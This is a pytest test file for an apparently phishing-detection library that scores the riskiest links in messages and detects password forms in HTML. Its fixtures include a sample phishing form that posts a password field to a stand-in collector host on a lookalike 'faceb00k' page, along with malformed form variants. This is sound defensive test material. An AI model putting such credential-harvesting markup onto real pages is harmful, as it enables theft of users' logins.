"""The worst link of a message: every address of a text, and forms however they are written."""

import duckdb
import pytest

from snarewatch.functions.addresses import addresses
from snarewatch.operators import pages as P
from snarewatch.plans import links, pages, registry

FORM = """<form class="f"action="https://collect.evil-drop.tk/?a>b"><input class="p"type="password"></form>"""
ODD = [
    "foo.org,ababamk.com/a; x", "see(ababamk.com),bit.ly/x9!bar.net", "ខ្មែរababamk.comខ្មែរ", "end.ababamk.com.", "1.2.3.4:81,5.6.7.8/p", "u@a-b.com_c.org/p q.net r.org　", "x..y.com http//z.com", "", "none",
]


def plain(x: str) -> str:
    return x.replace("'", "''")


@pytest.fixture(scope="module")
def said(spark, tmp_path_factory):
    """What the query and its SQL say of one message and one page, without and with a form on it."""
    out = []
    for html in ("", FORM):
        folder = tmp_path_factory.mktemp("worst")
        made = {
            "pages": f"select 14::bigint as page_id, 'https://www.faceb00k.com/p/14' as url, '{plain(html)}' as html",
            "conversations": f"select 2::bigint as conv_id, 0::int as turn, 'user' as role, '{ODD[0]}' as text",
            "documents": "select * from '/root/testdata/sf0.001/documents.parquet' limit 3",
        }
        for name, sql in made.items():
            duckdb.sql(f"copy ({sql}) to '{folder}/{name}.parquet' (format parquet)")
        found = sorted(map(tuple, registry.queries()["worst_link_full"](spark, str(folder)).select("message_id", "worst").collect()))
        with duckdb.connect() as db:
            for name in made:
                db.execute(f"create view {name} as select * from '{folder}/{name}.parquet'")
            out.append((found, sorted(db.execute(f"select message_id, worst from ({registry.oracle_sql()['worst_link_full']})").fetchall())))
    return out


def test_every_address_counts(said):
    for found, sql in said:
        assert found == sql and dict(found)[2000] == 50


def test_forms_count_however_they_are_written(said):
    bare, posted = (dict(found)[999999999999 + 14] for found, _ in said)
    assert posted == bare + 40


def test_the_statement_finds_the_addresses_of_the_query():
    for text in ODD:
        found = duckdb.execute(f"select {links.every_url_sql('x')} from (select ? as x)", [text]).fetchone()[0]
        assert list({u.lower(): u for u in reversed(found)}.values())[::-1] == addresses(text)


def test_forms_of_the_query_are_those_of_its_statement(spark):
    pages_ = [
        FORM, """<form action='/a' data-action="https://x.tk/p"><input data-type='password'>""", """<form <form action="https://x.tk/it's">""", "<form action=https://x.tk><input type=password>",
        """<form action="https://a.tk/b<form action='c'><formx action="https://n.tk"><form/action="https://o.tk">""", """<form action="x action='""", """<input type="text"<input type='password" """, "",
    ]
    rows = spark.createDataFrame(list(enumerate(pages_)), "page_id int, html string")
    found = rows.selectExpr("page_id", "html").select("page_id", P.asks_password(rows["html"], loose=True).alias("asks"), P.any_actions(rows["html"]).alias("actions"))
    for i, asks, actions in found.collect():
        sql = duckdb.execute(f"select regexp_matches(?, {pages.text(pages.ANY_PASSWORD)}), regexp_extract_all(?, {pages.text(pages.ANY_ACTION)}, 1)", [pages_[i], pages_[i]]).fetchone()
        assert (asks, [a for a in actions if a]) == (sql[0], [a for a in sql[1] if a])
